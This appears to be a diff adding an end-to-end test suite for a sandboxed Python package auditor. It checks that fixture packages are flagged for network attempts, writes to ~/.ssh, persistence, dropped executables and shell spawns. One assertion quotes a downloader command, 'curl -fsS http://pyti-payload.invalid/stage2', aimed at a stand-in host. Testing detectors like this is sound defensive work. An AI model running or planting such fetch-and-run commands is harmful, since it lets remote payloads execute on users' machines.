@@ -1,0 +1,149 @@
+/**
+ * End to end: each fixture package, built into a real sdist, audited in the real bubblewrap sandbox
+ * with real pip, pytest, coverage, pylint, pycodestyle and strace in the real guest image.
+ */
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { severityAtLeast, type AuditOutcome, type AuditReport } from '@pyti/slave';
+import { auditFixture } from './fixture-audit.js';
+
+const task = (r: AuditReport, id: string) => r.tasks.find((t) => t.id === id)!;
+const rules = (r: AuditReport) => r.findings.map((f) => `${f.phase}:${f.rule}:${f.severity}`);
+
+describe('auditing fixture packages in the sandbox', () => {
+  let sample: AuditOutcome;
+  beforeAll(async () => {
+    sample = await auditFixture('pyti-sample', { wheelhouse: ['pyti-helper'] });
+  });
+
+  it('a benign package is clean: every task passes, tests and coverage are reported, no finding above info', () => {
+    const r = sample.report;
+    expect(r.tasks.map((t) => [t.id, t.status])).toEqual(r.tasks.map((t) => [t.id, 'pass']));
+    expect(r).toMatchObject({ result: 'pass', verdict: 'clean' });
+    expect(sample.exitCode).toBe(0);
+    expect(r.findings.filter((f) => severityAtLeast(f.severity, 'low'))).toEqual([]);
+    expect(r.tests).toMatchObject({ total: 4, passed: 4, failed: 0 });
+    expect(r.tests!.cases.map((c) => c.name)).toContain('test_empty'); // the unittest-style test ran too
+    expect(r.coverage!.percent).toBeGreaterThan(80);
+    expect(r.lint!.score).toBeGreaterThan(5);
+    expect(r.install!.installed!.map((i) => i.name).sort()).toEqual(['pyti-helper', 'pyti-sample']);
+    for (const t of r.tasks.filter((x) => x.id !== 'style')) expect(t.peakMemoryBytes).toBeGreaterThan(0);
+  });
+
+  it('the benign install trace shows pip\'s process tree and the venv files, and no network', () => {
+    const tr = sample.report.traces.install!;
+    expect(tr.processes.some((p) => p.argv.join(' ').includes('pip'))).toBe(true);
+    expect(tr.files.some((f) => f.path.includes('/site-packages/pyti_sample/__init__.py') && f.ops.includes('create'))).toBe(true);
+    expect(tr.network).toEqual([]);
+    expect(sample.report.traces.import!.counts.processes).toBeGreaterThan(0);
+  });
+
+  it('writes report.json, a self-contained report.html and the raw data', () => {
+    const out = sample.outDir;
+    const json = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as AuditReport;
+    expect(json.schemaVersion).toBe(1);
+    const html = readFileSync(join(out, 'report.html'), 'utf8');
+    expect(html).toContain('pyti-sample 1.0 — CLEAN');
+    expect(html).not.toMatch(/<script|<link /);
+    expect(existsSync(join(out, 'raw/install/install.strace'))).toBe(true);
+    expect(existsSync(join(out, 'raw/test/junit.xml'))).toBe(true);
+  });
+
+  it('failing tests: test-fail with each failure\'s traceback', async () => {
+    const { report: r, exitCode } = await auditFixture('failing-tests');
+    expect(r).toMatchObject({ result: 'test-fail', verdict: 'failed' });
+    expect(exitCode).toBe(1);
+    expect(r.tests).toMatchObject({ passed: 1, failed: 2 });
+    const mul = r.tests!.cases.find((c) => c.name === 'test_mul')!;
+    expect(mul.outcome).toBe('failed');
+    expect(mul.traceback).toContain('mul is wrong');
+    expect(mul.needsNetwork).toBe(false);
+  });
+
+  it('lint errors: pylint messages and score, pycodestyle counts; the audit still passes', async () => {
+    const { report: r } = await auditFixture('lint-errors');
+    expect(r.result).toBe('pass');
+    expect(r.lint!.messages.map((m) => m.symbol)).toEqual(expect.arrayContaining(['undefined-variable', 'unused-import', 'multiple-imports']));
+    expect(r.lint!.score).toBeLessThan(5);
+    expect(r.lint!.messages[0]!.path).toMatch(/^lint_errors\//);
+    expect(r.style!.total).toBeGreaterThan(3);
+    expect(Object.keys(r.style!.byCode)).toEqual(expect.arrayContaining(['E401', 'E111']));
+  });
+
+  it('a C extension is compiled, installed, imported and tested', async () => {
+    const { report: r } = await auditFixture('cext-pkg');
+    expect(r.result).toBe('pass');
+    expect(r.build!.wheel).toMatch(/cp311-cp311-linux_x86_64\.whl$/);
+    expect(rules(r)).toContain('build:native-build:info');
+    expect(r.tests).toMatchObject({ passed: 1, failed: 0 });
+    expect(r.verdict).toBe('clean');
+  });
+
+  it('a build failure skips everything downstream, with the reason', async () => {
+    const { report: r, exitCode } = await auditFixture('build-fail');
+    expect(r.result).toBe('build-fail');
+    expect(exitCode).toBe(1);
+    expect(task(r, 'build').status).toBe('fail');
+    expect(task(r, 'build').outputTail).toContain('error');
+    expect(task(r, 'install')).toMatchObject({ status: 'skipped', reason: 'run halted by build' });
+    expect(task(r, 'lint').status).not.toBe('skipped');
+  });
+
+  it('a setup.py that tries the network: DNS lookup and connection attempts are findings with evidence', async () => {
+    const { report: r } = await auditFixture('net-setup');
+    expect(r.result).toBe('pass');
+    expect(r.verdict).toBe('flagged');
+    const dns = r.findings.find((f) => f.rule === 'dns-lookup')!;
+    expect(dns).toMatchObject({ phase: 'build', severity: 'high', title: 'build looks up pyti-exfil.invalid' });
+    expect(dns.evidence[0]!.line).toBeGreaterThan(0);
+    const net = r.findings.filter((f) => f.rule === 'network-attempt').map((f) => f.title);
+    expect(net).toEqual(expect.arrayContaining(['build tries the network: 127.0.0.1:9']));
+    expect(r.traces.build!.dnsNames).toContain('pyti-exfil.invalid');
+    expect(r.traces.build!.network.some((n) => n.address === '127.0.0.1' && n.port === 9 && !n.ok)).toBe(true);
+  });
+
+  it('a setup.py that writes ~/.ssh: critical findings', async () => {
+    const { report: r, exitCode } = await auditFixture('ssh-writer');
+    expect(exitCode).toBe(1);
+    expect(rules(r)).toEqual(expect.arrayContaining(['build:sensitive-write:critical', 'build:persistence:critical', 'build:sensitive-read:high']));
+    expect(r.maxSeverity).toBe('critical');
+  });
+
+  it('a setup.py that spawns sh -c curl: shell and downloader spawns', async () => {
+    const { report: r } = await auditFixture('curl-spawner');
+    const spawns = r.findings.filter((f) => f.rule === 'suspicious-spawn');
+    expect(spawns.map((f) => f.title)).toEqual(expect.arrayContaining(['build spawns a shell: sh', 'build spawns a downloader: curl']));
+    expect(spawns.find((f) => f.title.includes('sh'))!.evidence[0]!.summary).toContain('curl -fsS http://pyti-payload.invalid/stage2');
+  });
+
+  it('tests that need the network fail, and are marked as such', async () => {
+    const { report: r } = await auditFixture('net-tests');
+    expect(r.result).toBe('test-fail');
+    const byName = Object.fromEntries(r.tests!.cases.map((c) => [c.name, c]));
+    expect(byName.test_offline_part!.outcome).toBe('passed');
+    expect(byName.test_fetch_needs_dns).toMatchObject({ outcome: 'failed', needsNetwork: true });
+    expect(byName.test_needs_local_server).toMatchObject({ outcome: 'failed', needsNetwork: true });
+  });
+
+  it('import-time side effects: a dropped executable and shell persistence, during import', async () => {
+    const { report: r } = await auditFixture('import-side-effects');
+    expect(rules(r)).toEqual(expect.arrayContaining(['import:dropped-executable:critical', 'import:persistence:high']));
+    expect(r.imports).toEqual([expect.objectContaining({ module: 'import_side_effects', ok: true })]);
+  });
+
+  it('a wheelhouse lacking a dependency is a dependency problem, not a crash', async () => {
+    const { report: r, exitCode } = await auditFixture('needs-missing-dep');
+    expect(r.result).toBe('install-fail:deps');
+    expect(r.install!.missingDependencies!.join(' ')).toContain('pyti-not-in-wheelhouse');
+    expect(exitCode).toBe(1);
+    expect(task(r, 'test')).toMatchObject({ status: 'skipped' });
+  });
+
+  it('a wheel input is audited without a build', async () => {
+    const { report: r } = await auditFixture('pyti-sample', { kind: 'wheel', wheelhouse: ['pyti-helper'] });
+    expect(r.distribution.kind).toBe('wheel');
+    expect(r.build!.mode).toBe('prebuilt');
+    expect(r.result).toBe('pass');
+    expect(r.traces.build).toBeUndefined();
+  });
+});
